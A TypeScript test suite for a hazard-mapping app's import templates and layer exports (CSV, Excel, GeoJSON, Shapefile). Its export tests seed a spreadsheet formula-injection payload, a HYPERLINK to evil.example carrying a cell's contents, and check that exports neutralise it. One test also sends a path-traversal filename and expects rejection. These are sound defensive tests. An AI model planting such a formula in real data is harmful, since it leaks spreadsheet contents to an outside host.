import { execFile } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import ExcelJS from 'exceljs'
import { unzipSync } from 'fflate'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  enumLabels,
  importCommitResultSchema,
  importPreviewSchema,
  importTargets,
  layerCatalogue,
  type ImportField,
} from '@riskatlas/shared'
import { dbfFieldName } from '../../server/src/exports/layerFiles.ts'
import { parseCoordinate } from '../../server/src/imports/coords.ts'
import { parseCsv } from '../../server/src/imports/csv.ts'
import { templateLayers } from '../../server/src/exports/template.ts'
import { readXlsx } from '../../server/src/imports/xlsx.ts'
import { openHome, signIn, testHomes, type HomeContext, type Session } from '../support/homes.ts'

const run = promisify(execFile)

/** What the database holds for a template's example cell: enum words as their codes, numbers as numbers. */
function expectedValue(field: ImportField): unknown {
  if (field.type === 'integer' || field.type === 'number') return Number(field.example)
  if (field.type === 'enum') return field.values!.find((value) => enumLabels[value]?.zh === field.example) ?? field.example
  return field.example
}

describe.each(testHomes())('import templates on the $name home', (home) => {
  let ctx: HomeContext
  let editor: Session
  const imports: number[] = []

  beforeAll(async () => {
    ctx = openHome(home)
    editor = await signIn(ctx.app, 'editor')
  })
  afterAll(async () => {
    for (const id of [...imports].reverse()) await editor.request(`/api/imports/${id}/undo`, { method: 'POST' })
    if (imports.length) await sql`DELETE FROM imports WHERE id = ANY(${imports}::integer[])`.execute(ctx.db)
    await ctx.close()
  })

  it.each(templateLayers)('the %s template, downloaded and imported unchanged, yields exactly its example row', async (layer) => {
    const target = importTargets[layer]
    const response = await editor.request(`/api/imports/templates/${layer}.xlsx`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('spreadsheetml')
    const bytes = new Uint8Array(await response.arrayBuffer())

    // The workbook: notes above the Chinese headers (row 2), then the example.
    const sheet = (await readXlsx(bytes, target.fields)).sheets[0]!
    expect(sheet.headerRow).toBe(2)
    expect(sheet.columns).toEqual(target.fields.map((field) => field.label.zh))

    const uploaded = await ctx.app.request(`/api/imports?layer=${layer}&fileName=${layer}-template.xlsx`, {
      method: 'POST',
      headers: { cookie: editor.cookie, 'x-csrf-token': editor.csrfToken, 'content-type': 'application/octet-stream' },
      body: bytes,
    })
    expect(uploaded.status).toBe(201)
    const preview = importPreviewSchema.parse(await uploaded.json())
    imports.push(preview.import.id)
    expect(Object.keys(preview.mapping).sort()).toEqual(target.fields.map((field) => field.key).sort())
    expect(preview.totals).toEqual({ rows: 1, valid: 1, errors: 0, warnings: 0 })

    const committed = await editor.request(`/api/imports/${preview.import.id}/commit`, {
      method: 'POST',
      body: { mode: 'append', idempotencyKey: `template-${layer}-${Date.now()}` },
    })
    expect(committed.status).toBe(200)
    const result = importCommitResultSchema.parse(await committed.json())
    expect(result.import.counts).toMatchObject({ inserted: 1, updated: 0, deleted: 0 })

    const table = layer === 'vulnerable_people' ? 'vulnerable_people' : layer
    const keyField = target.fields[layer === 'vulnerable_people' ? 2 : 0]!
    const { rows } = await sql<Record<string, unknown>>`
      SELECT t.*, ${layer === 'vulnerable_people' ? sql`NULL::float8 AS lon, NULL::float8 AS lat` : sql`ST_X(t.geom) AS lon, ST_Y(t.geom) AS lat`}
      FROM ${sql.table(table)} t WHERE ${sql.ref(`t.${keyField.key}`)} = ${keyField.example}`.execute(ctx.db)
    expect(rows).toHaveLength(1)
    const row = rows[0]!
    for (const field of target.fields) {
      if (field.type === 'longitude' || field.type === 'latitude') {
        const axis = parseCoordinate(field.example)!.value
        expect(Number(row[field.key]), field.key).toBeCloseTo(axis, 6)
      } else if (field.key === 'village_code') {
        const village = await ctx.db.selectFrom('natural_villages').select('id').where('code', '=', field.example).executeTakeFirstOrThrow()
        expect(row.natural_village_id).toBe(village.id)
      } else
        expect(
          row[field.key] === null ? null : typeof row[field.key] === 'string' ? row[field.key] : Number(row[field.key]),
          field.key,
        ).toEqual(expectedValue(field))
    }
  })

  it('has no template for danger zones (polygons come from GeoJSON or a Shapefile)', async () => {
    expect((await editor.request('/api/imports/templates/danger_zones.xlsx')).status).toBe(400)
  })
})

interface ApiFeature {
  id: string | number
  geometry: { type: string; coordinates: unknown }
  properties: Record<string, unknown>
}

/** Every [x, y] of a geometry, in order. */
const positions = (coordinates: unknown): number[][] =>
  Array.isArray(coordinates) && typeof coordinates[0] === 'number'
    ? [coordinates as number[]]
    : (coordinates as unknown[]).flatMap(positions)
/** A geometry's vertices as a sorted multiset, to 6 decimals (the API's precision): the same shape whatever the ring direction. */
const vertexKeys = (coordinates: unknown) =>
  positions(coordinates)
    .map(([x, y]) => `${x!.toFixed(6)} ${y!.toFixed(6)}`)
    .sort()
/** What a spreadsheet cell of a layer export holds for a property value (codes as they are, lists joined, text formula-safe). */
const cellText = (value: unknown) => {
  if (value === null || value === undefined) return ''
  const text = Array.isArray(value) ? value.join('、') : String(value)
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
}
const exportLayers = layerCatalogue.map((layer) => [layer.id, layer] as const)
const injected = '=HYPERLINK("http://evil.example/?q="&A1,"点我查看")'

describe.each(testHomes())('layer exports on the $name home', (home) => {
  let ctx: HomeContext
  let dir: string
  const layerAnswers = new Map<string, ApiFeature[]>()

  /** The layer API's features: what every export must hold. */
  async function layerFeatures(id: string): Promise<ApiFeature[]> {
    if (!layerAnswers.has(id)) {
      const response = await ctx.app.request(`/api/layers/${id}?limit=10000`)
      expect(response.status).toBe(200)
      layerAnswers.set(id, ((await response.json()) as { features: ApiFeature[] }).features)
    }
    return layerAnswers.get(id)!
  }
  const download = async (file: string) => {
    const response = await ctx.app.request(`/api/exports/layers/${file}`)
    expect(response.status, file).toBe(200)
    return response
  }

  beforeAll(async () => {
    ctx = openHome(home)
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'riskatlas-exports-'))
    const admin = await ctx.db
      .selectFrom('admin_areas')
      .select('code')
      .where('level', '=', 'village')
      .orderBy('code')
      .executeTakeFirstOrThrow()
    // A hazard point whose name a spreadsheet would run as a formula (and a Chinese name to keep).
    await sql`INSERT INTO hazard_points (code, name, kind, scale, risk_level, admin_code, monitor_name, geom)
      VALUES ('TEST-EXPORT-1', ${injected}, 'landslide', 'small', 2, ${admin.code}, '测试监测员', ST_SetSRID(ST_MakePoint(99.123457, 25.234568), 4326))`.execute(
      ctx.db,
    )
  })
  afterAll(async () => {
    await sql`DELETE FROM hazard_points WHERE code = 'TEST-EXPORT-1'`.execute(ctx.db)
    fs.rmSync(dir, { recursive: true, force: true })
    await ctx.close()
  })

  it.each(exportLayers)('%s.geojson holds exactly the layer API’s features, no sign-in needed', async (id) => {
    const response = await download(`${id}.geojson`)
    expect(response.headers.get('content-type')).toContain('application/geo+json')
    expect(response.headers.get('content-disposition')).toContain(`filename="${id}.geojson"`)
    const collection = (await response.json()) as { type: string; features: ApiFeature[] }
    expect(collection.type).toBe('FeatureCollection')
    expect(collection.features).toEqual(await layerFeatures(id))
  })

  it.each(exportLayers)('%s.csv reads back as the layer’s features: BOM, Chinese headers, lon/lat or WKT', async (id, layer) => {
    const response = await download(`${id}.csv`)
    expect(response.headers.get('content-type')).toContain('text/csv')
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const [header, ...rows] = parseCsv(new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes))
    const point = layer.geometryType === 'Point'
    expect(header).toEqual([
      '要素ID',
      ...layer.properties.map((property) => property.title.zh),
      ...(point ? ['经度', '纬度'] : ['几何（WKT）']),
    ])
    const features = await layerFeatures(id)
    expect(rows).toHaveLength(features.length)
    rows.forEach((row, i) => {
      const feature = features[i]!
      expect(row[0]).toBe(String(feature.id))
      expect(row.slice(1, 1 + layer.properties.length)).toEqual(
        layer.properties.map((property) => cellText(feature.properties[property.name])),
      )
      const where = row.slice(1 + layer.properties.length)
      if (point) expect(where.map(Number)).toEqual(feature.geometry.coordinates)
      else {
        expect(
          where[0]!.startsWith(`${feature.geometry.type === 'LineString' ? 'LINESTRING' : feature.geometry.type.toUpperCase()} (`),
        ).toBe(true)
        const numbers = where[0]!.match(/-?\d+(\.\d+)?/g)!.map(Number)
        expect(numbers).toEqual(positions(feature.geometry.coordinates).flat())
      }
    })
  })

  it('neutralises a formula in a CSV cell: the injected name gets a leading apostrophe', async () => {
    const text = await (await download('hazard_points.csv')).text()
    const row = parseCsv(text.replace(/^\uFEFF/, '')).find((cells) => cells[1] === 'TEST-EXPORT-1')!
    expect(row[2]).toBe(`'${injected}`)
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
  })

  it.each(exportLayers)('%s.xlsx: one sheet, frozen Chinese header, numbers as numbers, the layer’s features', async (id, layer) => {
    const response = await download(`${id}.xlsx`)
    expect(response.headers.get('content-type')).toContain('spreadsheetml')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer)
    expect(workbook.worksheets).toHaveLength(1)
    const sheet = workbook.worksheets[0]!
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    const point = layer.geometryType === 'Point'
    const values = (rowNumber: number) => (sheet.getRow(rowNumber).values as unknown[]).slice(1)
    expect(values(1)).toEqual([
      '要素ID',
      ...layer.properties.map((property) => property.title.zh),
      ...(point ? ['经度', '纬度'] : ['几何（WKT）']),
    ])
    const features = await layerFeatures(id)
    expect(sheet.actualRowCount).toBe(features.length + 1)
    features.forEach((feature, i) => {
      const cells = values(i + 2)
      expect(cells[0]).toEqual(feature.id)
      layer.properties.forEach((property, k) => {
        const value = feature.properties[property.name]
        const cell = cells[k + 1]
        if (typeof value === 'number') expect(cell, property.name).toBe(value)
        else if (value === null || value === undefined || (Array.isArray(value) && value.length === 0) || value === '')
          expect(cell ?? null).toBeNull()
        else expect(cell, property.name).toBe(cellText(value))
      })
      if (point) expect(cells.slice(-2)).toEqual(feature.geometry.coordinates)
    })
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)))
  })

  it('writes the injected name into Excel as text, never a formula', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await (await download('hazard_points.xlsx')).arrayBuffer()) as ArrayBuffer)
    const sheet = workbook.worksheets[0]!
    const row = sheet.getRows(2, sheet.actualRowCount - 1)!.find((candidate) => candidate.getCell(2).value === 'TEST-EXPORT-1')!
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String)
    expect(row.getCell(3).value).toBe(`'${injected}`)
  })

  it.each(exportLayers)('%s.shp.zip is read by GDAL: count, geometry type, fields, Chinese text and coordinates', async (id, layer) => {
    const response = await download(`${id}.shp.zip`)
    expect(response.headers.get('content-type')).toBe('application/zip')
    const zip = path.join(dir, `${id}.shp.zip`)
    fs.writeFileSync(zip, new Uint8Array(await response.arrayBuffer()))
    const source = `/vsizip/${zip}/${id}.shp`
    const features = await layerFeatures(id)

    const { stdout: summary } = await run('ogrinfo', ['-ro', '-al', '-so', source])
    expect(summary).toContain(`Feature Count: ${features.length}`)
    expect(summary).toContain(`Geometry: ${{ Point: 'Point', LineString: 'Line String', MultiPolygon: 'Polygon' }[layer.geometryType]}`)
    expect(summary).toMatch(/ID\["EPSG",4326\]/)
    const fields = [...summary.matchAll(/^(\w+): (String|Integer|Integer64|Real) \(/gm)].map((match) => match[1])
    expect(fields).toEqual(['id', ...layer.properties.map((property) => dbfFieldName(property.name))])

    const { stdout } = await run('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', source], { maxBuffer: 64 * 1024 * 1024 })
    const read = (JSON.parse(stdout) as { features: ApiFeature[] }).features
    expect(read).toHaveLength(features.length)
    read.forEach((copy, i) => {
      const feature = features[i]!
      expect(copy.properties.id).toEqual(feature.id)
      for (const property of layer.properties) {
        const value = feature.properties[property.name]
        const got = copy.properties[dbfFieldName(property.name)]
        if (typeof value === 'number') expect(got as number, property.name).toBeCloseTo(value, 6)
        else if (typeof value === 'boolean') expect(got, property.name).toBe(value ? 'T' : 'F')
        else if (value === null || value === '' || (Array.isArray(value) && value.length === 0))
          expect(got ?? null, property.name).toBeNull()
        else expect(got, property.name).toBe(Array.isArray(value) ? value.join('、') : String(value))
      }
      const got = vertexKeys(copy.geometry.coordinates)
      const want = vertexKeys(feature.geometry.coordinates)
      expect(got).toEqual(want)
    })
  })

  it('keeps the formula-like and Chinese names of the test hazard point in the Shapefile (GBK, honoured by GDAL)', async () => {
    const zip = path.join(dir, 'hazard_points-marker.shp.zip')
    fs.writeFileSync(zip, new Uint8Array(await (await download('hazard_points.shp.zip')).arrayBuffer()))
    const { stdout } = await run('ogr2ogr', [
      '-f',
      'GeoJSON',
      '/vsistdout/',
      `/vsizip/${zip}/hazard_points.shp`,
      '-where',
      "code = 'TEST-EXPORT-1'",
    ])
    const [copy] = (JSON.parse(stdout) as { features: ApiFeature[] }).features
    expect(copy!.properties).toMatchObject({ name: injected, monitor: '测试监测员' })
    expect(copy!.geometry.coordinates).toEqual([99.123457, 25.234568])
    const entries = unzipSync(fs.readFileSync(zip))
    expect(Object.keys(entries).sort()).toEqual(['cpg', 'dbf', 'prj', 'shp', 'shx'].map((ext) => `hazard_points.${ext}`))
    expect(new TextDecoder().decode(entries['hazard_points.cpg'])).toBe('GBK')
    const dbf = entries['hazard_points.dbf']!
    expect(new TextDecoder('gbk').decode(dbf)).toContain('测试监测员')
    expect(Buffer.from(dbf).includes(Buffer.from('测试监测员', 'utf8'))).toBe(false)
  })

  it('is kept until the next write: a repeat with its ETag is a 304, and a change to the layer gives a new file', async () => {
    const first = await download('hazard_points.csv')
    const etag = first.headers.get('etag')!
    expect(etag).toMatch(/^W\/"/)
    expect(first.headers.get('cache-control')).toBe('public, no-cache')
    expect(await first.text()).not.toContain('测试监测员二')
    const again = await ctx.app.request('/api/exports/layers/hazard_points.csv', { headers: { 'if-none-match': etag } })
    expect(again.status).toBe(304)
    await sql`UPDATE hazard_points SET monitor_name = '测试监测员二' WHERE code = 'TEST-EXPORT-1'`.execute(ctx.db)
    try {
      const changed = await ctx.app.request('/api/exports/layers/hazard_points.csv', { headers: { 'if-none-match': etag } })
      expect(changed.status).toBe(200)
      expect(changed.headers.get('etag')).not.toBe(etag)
      expect(await changed.text()).toContain('测试监测员二')
    } finally {
      await sql`UPDATE hazard_points SET monitor_name = '测试监测员' WHERE code = 'TEST-EXPORT-1'`.execute(ctx.db)
    }
  })

  it('is declared in the OpenAPI document with its four media types', async () => {
    const doc = (await (await ctx.app.request('/api/openapi.json')).json()) as {
      paths: Record<string, { get: { responses: Record<string, { content: Record<string, unknown> }> } }>
    }
    expect(Object.keys(doc.paths['/api/exports/layers/{file}']!.get.responses['200']!.content).sort()).toEqual(
      ['application/geo+json', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'application/zip', 'text/csv'].sort(),
    )
  })

  it('answers an unknown layer with 404 and a file that is not <layer>.<format> with 400, as JSON', async () => {
    const unknown = await ctx.app.request('/api/exports/layers/vulnerable_people.csv')
    expect(unknown.status).toBe(404)
    expect(((await unknown.json()) as { error: { code: string } }).error.code).toBe('not_found')
    for (const file of ['hazard_points.pdf', 'hazard_points', '..%2Fetc.csv']) {
      const bad = await ctx.app.request(`/api/exports/layers/${file}`)
      expect(bad.status, file).toBe(400)
      expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('validation_failed')
    }
  })
})
